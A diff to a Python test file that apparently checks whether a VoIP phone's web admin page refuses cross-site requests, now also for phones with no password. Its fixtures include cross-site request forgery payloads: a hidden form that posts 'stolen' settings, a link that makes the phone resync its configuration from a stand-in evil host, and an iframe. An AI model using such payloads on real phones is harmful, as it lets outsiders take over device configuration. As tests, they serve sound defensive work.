@@ -33,10 +33,10 @@ def browser():
         driver.quit()
 
 
-def farm(*options):
+def farm(*options, password="geheim"):
     """One phone on the lab."""
     f = Farm("--count", "1", "--addr", "127.90.1.0/24", "--web", "8080", "--set",
-             "Admin_Passwd=geheim", *options)
+             f"Admin_Passwd={password}", *options)
     f.call("wait", phones="1", cond="registered", timeout=30)
     return f
 
@@ -158,7 +158,9 @@ class Evil:
         threading.Thread(target=self.server.serve_forever, daemon=True).start()
 
 
-def pages_of_others_are_refused():
+def refuse_pages_of_others(password):
+    """A browser sends what a phone asks for along with a form; to one that asks for nothing, which
+    is how phones leave the factory, it sends pictures as well."""
     at = f"http://{PHONE}"
     form = (f"<form method=post action='{at}/admin/advanced'><input name=GPP_A value=stolen>"
             "<button>Win a prize</button></form>")
@@ -170,7 +172,7 @@ def pages_of_others_are_refused():
         "/link": f"<a href='{at}/admin/resync?http://{EVIL}:8000/x.xml'>Win a prize</a>",
         "/frame": f"<iframe src='{at}/admin/advanced?tab=Ext_1' onload='document.title=1'></iframe>",
     })
-    with farm() as f, browser() as driver:
+    with farm(password=password) as f, browser() as driver:
         driver.get(f"{ADMIN}/admin/advanced")
         check("logged in", "Registered" in driver.page_source)
         for name in ("form", "hidden-form"):
@@ -192,7 +194,17 @@ def pages_of_others_are_refused():
         press(driver, "Submit All Changes")
         check("stored", value(f, "GPP_A") == "mine")
     evil.server.shutdown()
+    evil.server.server_close()
+
+
+def pages_of_others_are_refused():
+    refuse_pages_of_others("geheim")
+
+
+def and_where_there_is_no_password_too():
+    refuse_pages_of_others("")
 
 
 main([a_change_makes_the_phone_register_anew, every_tab_opens_and_sends_itself_unchanged,
-      without_log_in_nothing_can_be_changed, pages_of_others_are_refused])
+      without_log_in_nothing_can_be_changed, pages_of_others_are_refused,
+      and_where_there_is_no_password_too])
